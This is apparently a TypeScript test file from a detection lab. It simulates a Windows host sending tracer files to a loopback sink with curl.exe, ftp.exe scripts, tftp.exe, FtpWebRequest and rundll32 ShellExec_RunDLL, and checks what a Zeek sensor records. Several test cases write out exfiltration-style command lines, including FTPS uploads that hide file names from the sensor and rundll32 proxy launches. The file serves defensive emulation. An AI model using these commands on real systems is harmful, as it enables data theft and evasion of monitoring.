import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { systemClock, waitFor } from '../../src/core/index.js';
import {
  defaultSinkLimits,
  labCertificate,
  sinkFactories,
  type Sink,
  type SinkOptions,
} from '../../src/sinks/index.js';
import { openPassiveFtp, ftpManners, pinnedCertificate } from '../../src/simulator/clients/index.js';
import { zeekSensor } from '../../src/simulator/sensors/zeek.js';
import type { Activity } from '../../src/simulator/activity.js';
import type { ShippedRecord } from '../../src/simulator/types.js';
import {
  expectDownload,
  expectUpload,
  finalReceipts,
  recordingSink,
  testTracer,
  type SinkRecorder,
} from '../helpers/sink-lab.js';
import { describeWith } from '../helpers/requires.js';
import { bench, type Bench } from '../unit/simulator/host/bench.js';

const hostAddress = '127.0.1.64';
const sinkAddress = '127.0.2.64';
const account = { user: 'dk3f9q2x', password: 'nonce-1234' };
const login = `${account.user}:${account.password}`;
const home = 'C:\\Users\\lab';
const lab = labCertificate([sinkAddress], Date.now());
const first = testTracer('clients-1', 60_000);
const second = testTracer('clients-2', 40_000);

let directory: string;
let host: Bench;
let sink: Sink;
let recorder: SinkRecorder;

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'dyetrace-clients-'));
  host = await bench(hostAddress);
  for (const { fileName, bytes } of [first, second]) await host.write(`${home}\\${fileName}`, bytes);
});
afterEach(async () => {
  await host.close();
  await sink.stop();
  await rm(directory, { recursive: true, force: true });
});

async function start(protocol: 'ftp' | 'tftp', overrides: Partial<SinkOptions> = {}): Promise<number> {
  const expected = [expectUpload(first), expectUpload(second)];
  recorder = recordingSink({ address: sinkAddress, clients: [hostAddress], account, expected, ...overrides });
  sink = sinkFactories.get(protocol)(recorder.options);
  return (await sink.start()).port;
}

/** What the sink received, once it has stopped. */
async function received() {
  await sink.stop();
  return finalReceipts(recorder.lines);
}

const complete = (tracer: typeof first, command: string) => ({
  complete: true,
  command,
  fileName: tracer.fileName,
  sha256: tracer.sha256,
});

/** What a Zeek sensor writes of it all. */
function zeek(activities: readonly Activity[]): ShippedRecord[] {
  const shipped: ShippedRecord[] = [];
  const sensor = zeekSensor({ sensor: 'zeek', faults: [], ship: (record) => shipped.push(record) });
  for (const activity of activities) sensor(activity);
  sensor.finish(systemClock.now());
  return shipped;
}

const started = (program: string) =>
  host.activities.flatMap((one) =>
    one.kind === 'process-started' && one.process.image.toLowerCase().endsWith(`\\${program}`)
      ? [one.process]
      : [],
  );

/** Each socket of the host with its bytes, as one line, in the sink's point of view. */
function hostSockets(): string[] {
  return host.activities
    .flatMap((one) => (one.kind === 'socket-closed' ? [one] : []))
    .map(({ socket, bytesSent, bytesReceived }) => `${socket.local.port} ${bytesSent} ${bytesReceived}`)
    .sort();
}

const sinkSockets = (receipts: ReturnType<typeof finalReceipts>): string[] =>
  [
    ...new Set(
      receipts
        .flatMap(({ sockets }) => sockets)
        .map(({ openedBy, source, destination, bytesFromClient, bytesToClient }) => {
          const client = openedBy === 'client' ? source : destination;
          return `${client.port} ${bytesFromClient} ${bytesToClient}`;
        }),
    ),
  ].sort();

describe('curl.exe over FTP', () => {
  it('sends several files over one control connection, EPSV first', async () => {
    const port = await start('ftp');
    const files = `{${first.fileName},${second.fileName}}`;
    const ran = await host.cmd(`curl.exe -sS -u ${login} -T "${files}" ftp://${sinkAddress}:${port}/`);
    expect(ran).toEqual({ exitCode: 0, stdout: '', stderr: '' });
    const receipts = await received();
    expect(receipts).toMatchObject([complete(first, 'STOR'), complete(second, 'STOR')]);
    expect(hostSockets()).toEqual(sinkSockets(receipts));
    const commands = host.activities.flatMap((one) => (one.kind === 'ftp-command' ? [one.command] : []));
    expect(commands.join(' ')).toBe('USER PASS PWD EPSV TYPE STOR EPSV STOR QUIT');
  });

  it('goes on after a failure, and the last transfer is its exit code', async () => {
    const port = await start('ftp', { expected: [expectUpload(second)] });
    const url = `ftp://${sinkAddress}:${port}/`;
    const bad = await host.cmd(`curl.exe -sS -u ${login} -T {${second.fileName},${first.fileName}} ${url}`);
    expect(bad).toMatchObject({ exitCode: 25, stderr: 'curl: (25) Failed FTP upload: 553\r\n' });
    expect(await received()).toMatchObject([complete(second, 'STOR')]);
  });

  it.each([
    ['a wrong password', 67, (url: string) => `-u u:p -T ${first.fileName} ${url}`],
    ['a folder that is not there', 9, (url: string) => `-u ${login} -T ${first.fileName} ${url}folder/`],
    ['no TLS at the server', 64, (url: string) => `-u ${login} --ssl-reqd -k -T ${first.fileName} ${url}`],
    ['a download that is not there', 78, (url: string) => `-u ${login} -o x.dat ${url}none.dat`],
  ])('%s ends with %i', async (_, code, args) => {
    const port = await start('ftp');
    const ran = await host.cmd(`curl.exe -sS ${args(`ftp://${sinkAddress}:${port}/`)}`);
    expect(ran.exitCode).toBe(code);
    expect(ran.stderr).toMatch(new RegExp(`^curl: \\(${code}\\) `));
  });

  it('appends with -a, and gives up after --max-time with 28', async () => {
    const port = await start('ftp');
    const url = `ftp://${sinkAddress}:${port}/`;
    expect((await host.cmd(`curl.exe -sS -a -u ${login} -T ${first.fileName} ${url}`)).exitCode).toBe(0);
    const slow = await start('ftp', { limits: { ...recorder.options.limits, maxBytesPerSecond: 1000 } });
    const late = `curl.exe -sS -m 0.5 -u ${login} -T ${first.fileName} ftp://${sinkAddress}:${slow}/`;
    expect((await host.cmd(late)).exitCode).toBe(28);
  });
});

describe('FTPS', () => {
  const pinned = `--ssl-reqd --insecure --pinnedpubkey ${lab.publicKeyPin}`;

  it('curl.exe encrypts both connections; a sensor sees bytes, but neither names nor commands', async () => {
    const port = await start('ftp', { tls: lab });
    const url = `ftp://${sinkAddress}:${port}/`;
    const ran = await host.cmd(`curl.exe -sS ${pinned} -u ${login} -T ${first.fileName} ${url}`);
    expect(ran).toEqual({ exitCode: 0, stdout: '', stderr: '' });
    const receipts = await received();
    expect(receipts).toMatchObject([complete(first, 'STOR')]);
    expect(hostSockets()).toEqual(sinkSockets(receipts));
    const records = zeek(host.activities);
    expect(records.map(({ source }) => source).sort()).toEqual(['zeek-conn', 'zeek-conn']);
    expect(records.map(({ record }) => record['service']).sort()).toEqual(['ftp,ssl', 'ssl']);
    expect(JSON.stringify(records)).not.toContain(first.fileName);
    // The server's own log names the file all the same.
    expect(JSON.stringify(recorder.log)).toContain(first.fileName);
  });

  it.each([
    ['a certificate that nobody vouches for', 60, '--ssl-reqd'],
    [
      'another key than the pinned one',
      90,
      `--ssl-reqd -k --pinnedpubkey ${labCertificate([], 0).publicKeyPin}`,
    ],
  ])('curl.exe refuses %s with %i', async (_, code, options) => {
    const port = await start('ftp', { tls: lab });
    const url = `ftp://${sinkAddress}:${port}/`;
    expect((await host.cmd(`curl.exe -sS ${options} -u ${login} -T ${first.fileName} ${url}`)).exitCode).toBe(
      code,
    );
    expect(await received()).toEqual([]);
  });

  it('FtpWebRequest with EnableSsl keeps its connection, and takes the pinned certificate alone', async () => {
    const port = await start('ftp', { tls: lab });
    const owner = host.machine.processes.system;
    const open = (sha256: string) =>
      openPassiveFtp(host.machine, {
        owner,
        remote: { ip: sinkAddress, port },
        ...account,
        manner: ftpManners.webRequest,
        tls: { auth: ['TLS'], refuses: pinnedCertificate(sha256) },
        signal: new AbortController().signal,
      });
    await expect(open('00'.repeat(32))).rejects.toMatchObject({ stage: 'tls', code: null });
    const session = await open(lab.sha256);
    for (const [tracer, verb] of [
      [first, 'APPE'],
      [second, 'STOR'],
    ] as const) {
      const file = await host.machine.disk.locate(`${home}\\${tracer.fileName}`);
      const name = tracer.fileName;
      expect(await session.transfer({ name, direction: 'upload', verb, file })).toBe(tracer.bytes.length);
    }
    await session.close();
    const receipts = await received();
    expect(receipts).toMatchObject([complete(first, 'APPE'), complete(second, 'STOR')]);
    expect(sinkSockets(receipts)).toHaveLength(3);
  });
});

describe('STOU', () => {
  it('names no file; the server chooses the name', async () => {
    const port = await start('ftp', { expected: [expectUpload(first, { serverNames: true })] });
    const session = await openPassiveFtp(host.machine, {
      owner: host.machine.processes.system,
      remote: { ip: sinkAddress, port },
      ...account,
      manner: ftpManners.webRequest,
      signal: new AbortController().signal,
    });
    const file = await host.machine.disk.locate(`${home}\\${first.fileName}`);
    const upload = { direction: 'upload', verb: 'STOU', file } as const;
    await session.transfer({ ...upload, name: '' });
    await session.close();
    const [receipt] = await received();
    expect(receipt).toMatchObject({ command: 'STOU', complete: true, sha256: first.sha256 });
    expect(receipt?.executionId).toBe(first.spec.execution);
    expect(host.activities).toContainEqual(expect.objectContaining({ command: 'STOU', argument: null }));
  });
});

describe('TFTP', () => {
  it.each([
    ['curl.exe, with options', (url: string) => `curl.exe -sS -T ${first.fileName} ${url}/`],
    ['curl.exe, without', (url: string) => `curl.exe -sS --tftp-no-options -T ${first.fileName} ${url}/`],
    [
      'curl.exe, larger blocks',
      (url: string) => `curl.exe -sS --tftp-blksize 1400 -T ${first.fileName} ${url}/`,
    ],
    [
      'curl.exe, netascii',
      (url: string) => `curl.exe -sS -T ${first.fileName} "${url}/${first.fileName};mode=netascii"`,
    ],
  ])('%s', async (_, line) => {
    const port = await start('tftp');
    expect(await host.cmd(line(`tftp://${sinkAddress}:${port}`))).toEqual({
      exitCode: 0,
      stdout: '',
      stderr: '',
    });
    const receipts = await received();
    expect(receipts).toMatchObject([complete(first, 'WRQ')]);
    expect(hostSockets()).toEqual(sinkSockets(receipts));
  });

  it.each([
    ['-i', 'octet'],
    ['', 'netascii'],
  ])('tftp.exe %s sends no options, and goes as %s', async (option, mode) => {
    const port = await start('tftp');
    Object.assign(host.machine.services, { tftp: port });
    const ran = await host.cmd(`tftp.exe ${option} ${sinkAddress} PUT ${first.fileName}`);
    expect(ran.stdout).toMatch(/^Transfer successful: \d+ bytes in \d+ second\(s\), \d+ bytes\/s\r\n$/);
    expect(ran.exitCode).toBe(0);
    const receipts = await received();
    expect(receipts).toMatchObject([complete(first, 'WRQ')]);
    // opcode, name, mode, and nothing else
    const request = receipts[0]?.sockets.find(({ role }) => role === 'request');
    expect(request?.bytesFromClient).toBe(2 + first.fileName.length + 1 + mode.length + 1);
  });

  it('an unplanned name is refused: tftp.exe ends with 1, curl.exe with the code of the server', async () => {
    const port = await start('tftp', { expected: [expectDownload(second)] });
    Object.assign(host.machine.services, { tftp: port });
    const ran = await host.cmd(`tftp.exe -i ${sinkAddress} PUT ${first.fileName}`);
    expect(ran.exitCode).toBe(1);
    expect(ran.stderr).toMatch(/^Error on server : /);
    const url = `tftp://${sinkAddress}:${port}/`;
    expect((await host.cmd(`curl.exe -sS -T ${first.fileName} ${url}`)).exitCode).toBe(69);
    expect((await host.cmd(`curl.exe -sS -o in.dat ${url}nothing.dat`)).exitCode).toBe(68);
  });
});

describe('ftp.exe', () => {
  it('sends several files by mput in active mode, waits by its shell, and ends with 0', async () => {
    const port = await start('ftp');
    const lines = [
      `open ${sinkAddress} ${port}`,
      `user ${login.replace(':', ' ')}`,
      'binary',
      'prompt',
      `append ${first.fileName}`,
      '!ping -n 1 127.0.0.1 >nul',
      `mput ${second.fileName.slice(0, 4)}*.*`,
      'quit',
    ];
    await host.write(`${home}\\s.txt`, lines.join('\r\n'));
    const ran = await host.cmd('ftp.exe -n -s:s.txt');
    expect(ran.exitCode).toBe(0);
    expect(ran.stdout).toContain('Interactive mode Off');
    expect(ran.stdout.match(/^226 /gm)).toHaveLength(2);
    expect(await received()).toMatchObject([complete(first, 'APPE'), complete(second, 'STOR')]);
    const [shell] = started('cmd.exe').filter(({ parent }) => parent?.originalFileName === 'ftp.exe');
    expect(started('ping.exe')[0]?.parent).toBe(shell);
  });

  it('logs in by itself without -n, and ends with 0 where it is refused', async () => {
    const port = await start('ftp');
    const lines = [`open ${sinkAddress} ${port}`, account.user, 'wrong', `put ${first.fileName}`, 'quit'];
    await host.write(`${home}\\s.txt`, lines.join('\r\n'));
    const ran = await host.cmd('ftp.exe -i -s:s.txt');
    expect(ran.exitCode).toBe(0);
    expect(ran.stdout).toContain('Login failed.');
    expect(await received()).toEqual([]);
  });
});

describeWith({ platforms: ['linux', 'win32'] }, 'rundll32.exe shell32.dll,ShellExec_RunDLL', () => {
  const run = (line: string) => host.cmd(`rundll32.exe shell32.dll,ShellExec_RunDLL ${line}`);
  const script = (port: number): string =>
    [
      `open ${sinkAddress} ${port}`,
      `user ${login.replace(':', ' ')}`,
      'binary',
      `put ${first.fileName}`,
      'quit',
    ].join('\r\n');

  it.each([
    [
      'curl.exe',
      'ftp',
      (port: number) => `curl.exe -s -u ${login} -T ${first.fileName} ftp://${sinkAddress}:${port}/`,
    ],
    ['curl.exe', 'tftp', (port: number) => `curl.exe -s -T ${first.fileName} tftp://${sinkAddress}:${port}/`],
    ['ftp.exe', 'ftp', () => 'ftp.exe -n -s:s.txt'],
    ['tftp.exe', 'tftp', () => `tftp.exe -i ${sinkAddress} PUT ${first.fileName}`],
  ] as const)('%s over %s goes on by itself, as its child', async (program, protocol, line) => {
    const port = await start(protocol, { limits: { ...defaultSinkLimits, maxBytesPerSecond: 100_000 } });
    Object.assign(host.machine.services, { tftp: port });
    await host.write(`${home}\\s.txt`, script(port));
    const ran = await run(line(port));
    // It has returned long before the transfer can have ended.
    expect(ran).toEqual({ exitCode: 0, stdout: '', stderr: '' });
    expect(recorder.lines).toEqual([]);
    await waitFor(() => recorder.lines.some((receipt) => receipt.complete), { timeoutMs: 15_000 });
    const [child] = started(program);
    expect(child?.parent?.image).toBe('C:\\Windows\\System32\\rundll32.exe');
    const owners = host.activities.flatMap((one) => (one.kind === 'socket-opened' ? [one.socket.owner] : []));
    expect(new Set(owners)).toEqual(new Set([child]));
  });

  it('returns 0 at once where there is no such program', async () => {
    await start('ftp');
    expect((await run('nothing.exe')).exitCode).toBe(0);
    expect(started('nothing.exe')).toEqual([]);
  });
});
